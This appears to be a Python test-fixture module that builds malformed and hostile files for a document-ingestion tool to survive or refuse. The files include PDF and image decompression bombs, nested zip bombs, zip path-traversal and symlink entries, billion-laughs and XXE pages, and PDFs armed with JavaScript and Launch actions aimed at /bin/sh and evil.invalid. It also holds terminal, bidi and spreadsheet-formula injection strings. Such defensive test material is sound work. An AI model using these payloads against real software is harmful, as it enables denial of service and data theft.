"""Files made to do harm, each a few kilobytes to a megabyte, written by hand so that no library mends them."""

import io
import os
import stat
import struct
import zipfile
import zlib

SECRET = "此文不在所交之内"
"""What an external entity or a link would fetch."""


def pdf(objects, root=1, version=b"1.7"):
    """A PDF of the given object bodies, numbered from 1, with a right cross-reference table."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    starts = []
    for number, body in enumerate(objects, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % start for start in starts)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, table)
    return bytes(out)


def stream(data, entries=b"", packed=1):
    """A stream, deflated so many times over."""
    for _ in range(packed):
        data = zlib.compress(data, 9)
    filters = b"/Filter[" + b"/FlateDecode" * packed + b"]" if packed else b""
    return b"<</Length %d%s%s>>stream\n" % (len(data), filters, entries) + data + b"\nendstream"


def one_page(content, resources=b"", catalogue=b"", page=b"", more=()):
    """A PDF of one sheet: 1 catalogue, 2 pages, 3 page, 4 contents, 5 … more."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>%s>>" % (resources, page),
            content,
            *more,
        ]
    )


def form(content, resources=b""):
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<<%s>>" % resources, 0)


def flate_bomb():
    """Contents that unpack to 256 MB of blanks, deflated twice to a few kilobytes."""
    packer = zlib.compressobj(9)
    once = b"".join([packer.compress(b" " * (1 << 20)) for _ in range(256)]) + packer.flush()
    twice = zlib.compress(once, 9)
    return one_page(b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(twice) + twice + b"\nendstream")


def picture_bomb():
    """A picture of 100,000 × 100,000 pixels on the sheet."""
    size = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    return one_page(
        stream(b"595 0 0 842 0 0 cm /I Do"), b"/XObject<</I 5 0 R>>", more=[stream(b"\0" * (1 << 20), size)]
    )


def forms_within_forms():
    """Ten forms, each drawing the next ten times: 10¹⁰ words."""
    names = [b"/XObject<</F %d 0 R>>" % (6 + n) for n in range(10)]
    forms = [form(b"/F Do " * 10, name) for name in names]
    words = form(b"BT /H 9 Tf (x) Tj ET", b"/Font<</H<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>")
    return one_page(stream(b"/F Do"), b"/XObject<</F 5 0 R>>", more=[*forms, words])


def form_within_itself():
    return one_page(stream(b"/F Do"), b"/XObject<</F 5 0 R>>", more=[form(b"/F Do /F Do", b"/XObject<</F 5 0 R>>")])


def endless_pages():
    """A page tree that is its own branch."""
    kids = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2147483647/Parent 3 0 R>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", kids, b"<</Type/Pages/Kids[2 0 R]/Count 2147483647/Parent 2 0 R>>"])


def claimed_pages():
    """One sheet that says it is two thousand million."""
    return one_page(stream(b" ")).replace(b"/Count 1>>", b"/Count 2147483647>>")


def many_objects(count=30_000):
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"3 0 R " * count, count),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
            *[b"<<>>"] * count,
        ]
    )


def deep_array():
    return one_page(stream(b"[" * 200_000 + b"]" * 200_000), page=b"/X " + b"[" * 50_000 + b"]" * 50_000)


def broken_font():
    """A sheet whose embedded fonts and pictures are noise behind right beginnings."""
    noise = bytes((n * 7919 + (n >> 3)) % 256 for n in range(20_000))
    fonts = b"/Font<</A<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 5 0 R>>/B<</Type/Font/Subtype/Type1"
    fonts += b"/BaseFont/B/FontDescriptor 6 0 R>>>>/XObject<</J 9 0 R/X 10 0 R>>"
    size = b"/Type/XObject/Subtype/Image/Width 400/Height 400/ColorSpace/DeviceGray/BitsPerComponent %d/Filter/%s"
    return one_page(
        stream(b"BT /A 12 Tf 50 700 Td (AAAA) Tj /B 12 Tf (BBBB) Tj ET q 400 0 0 400 0 0 cm /J Do /X Do Q"),
        fonts,
        more=[
            b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 7 0 R>>",
            b"<</Type/FontDescriptor/FontName/B/Flags 4/FontFile 8 0 R>>",
            stream(b"\0\1\0\0\0\x10" + noise),
            stream(b"%!PS-AdobeFont-1.0\n" + noise, b"/Length1 100/Length2 19000/Length3 0"),
            stream(noise, size % (1, b"JBIG2Decode"), 0),
            stream(b"\0\0\0\x0cjP  \r\n\x87\n" + noise, size % (8, b"JPXDecode"), 0),
        ],
    )


ARMED = (b"app.alert", b"/bin/sh", b"http://evil.invalid", b"payload.exe")
"""Words of the actions in `armed`, none of which may come into a file that Gazette makes."""


def armed(content=b"BT /H 24 Tf 60 700 Td (Marsh Gazette) Tj ET"):
    """A sheet with every kind of action: on opening, on closing, on the page, behind a link, a form and a bookmark."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    launch = b"<</S/Launch/F(/bin/sh)/Next<</S/URI/URI(http://evil.invalid)>>>>"
    font = b"/Font<</H<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
    catalogue = b"/OpenAction %s/AA<</WC %s>>/Names<</JavaScript<</Names[(a)%s]>>/EmbeddedFiles<</Names[(p)8 0 R]>>>>"
    catalogue = catalogue % (script, launch, script) + b"/AcroForm<</Fields[6 0 R]/XFA(app.alert)>>/Outlines 9 0 R"
    return one_page(
        stream(content),
        font,
        catalogue,
        b"/AA<</O %s>>/Annots[5 0 R 6 0 R 7 0 R]" % launch,
        [
            b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A %s>>" % launch,
            b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 99 99]/A %s/AA<</E %s>>>>" % (script, script),
            b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 8 0 R>>",
            b"<</Type/Filespec/F(payload.exe)/EF<</F 11 0 R>>>>",
            b"<</Type/Outlines/First 10 0 R/Last 10 0 R/Count 1>>",
            b"<</Title(x)/Parent 9 0 R/A %s>>" % launch,
            stream(b"MZ payload.exe", packed=0),
        ],
    )


def png(width, height, data=b"", kind=0, bits=1):
    """A PNG that claims a size; its data may be as little as one likes."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, bits, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def endless_tiff():
    """A TIFF whose one frame says that the next one is itself, and that it has more tags than the file bytes."""
    tags = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8)]
    tags += [(277, 3, 1, 1), (278, 3, 1, 8), (279, 4, 1, 64), (270, 2, 0xFFFFFFF0, 8)]
    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    frame = struct.pack("<H", len(tags)) + body
    return b"II*\0" + struct.pack("<I", 8) + frame + struct.pack("<I", 8)


def boxes(entries):
    """A zip of (name or ZipInfo, data)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name, data in entries:
            box.writestr(name, data)
    return out.getvalue()


def bombs_within_boxes(megabytes=400, each=20):
    """A zip of zips, none of which is large for a zip, all together as large as one likes."""
    inner = boxes([(f"{n}.bin", os.urandom(2000) + b"\0" * (each << 18)) for n in range(4)])
    return boxes([(f"{n}.zip", inner) for n in range(megabytes // each)])


def box_of_odd_names():
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    odd = ["../../../climbed.txt", "/absolute.txt", "C:\\dos.txt", "..\\..\\climbed.txt"]
    odd += ["a\nb\x1b[31m.txt", "长" * 90 + ".txt"]
    return boxes([(name, "第一条") for name in odd] + [(link, "/etc/passwd")])


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><html><body><p>&j;</p></body></html>"
)


def fetching_page(secret):
    """A web page that asks for a file and for an address."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://{secret}"> '
        '<!ENTITY y SYSTEM "http://127.0.0.1:9/y">]><html><body><p>取来&x;&y;</p>'
        f'<iframe src="file://{secret}"></iframe><img src="http://127.0.0.1:9/i.png"></body></html>'
    )


TRICKS = (
    "\x1b[2J\x1b]0;改题\x07",  # clears the screen, renames the window
    "\u202e止废\u202c",  # reads backwards
    "<script>app.alert(1)</script>",
    '=HYPERLINK("http://evil.invalid","点")',
    "\x9b31m",
    "\u2066隐\u2069",
)


def text_of_tricks():
    """A regulation whose title and text are full of what steers terminals, browsers and spreadsheets."""
    bad = "".join(TRICKS)
    return (
        f"=芦荡{bad}管理办法\n（2004年5月6日国家水文湿地总局令第71号公布　自2004年7月1日起施行）\n"
        f"第一条　为了养护芦荡{bad}，制定本办法。\n第二条　本办法自2004年7月1日起施行。\n"
    )


def refused():
    """Files that cannot be taken in, by name."""
    return {
        "endless-pages.pdf": endless_pages(),
        "many-pages.pdf": many_objects(),
        "nothing.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 20,
        "bomb.png": png(50_000, 50_000, b"\0" * (1 << 20)),
        "bomb.jpg": b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00\xff\xd9",
        "bomb.zip": boxes([("zeros.txt", b"0" * (30 << 20))]),
        "program.html": b"GIF89a\x01\x00\x01\x00\x80\x00\x00<html><script>app.alert(1)</script>",
    }


def unread():
    """Files that are taken in, but whose page no reader can or should finish."""
    return {"forms.pdf": forms_within_forms()}


def borne():
    """Files that are odd but do no harm once they are opened with care; how fast the machine is says which are read."""
    return {
        "flate-bomb.pdf": flate_bomb(),
        "picture-bomb.pdf": picture_bomb(),
        "self.pdf": form_within_itself(),
        "claimed.pdf": claimed_pages(),
        "deep.pdf": deep_array(),
        "font.pdf": broken_font(),
        "armed.pdf": armed(),
        "endless.tif": endless_tiff(),
        "escapes.txt": "\x1b[2J第一条".encode(),
        "laughs.html": LAUGHS.encode(),
        "box.pdf": armed() + boxes([("in.txt", "第一条")]),
    }
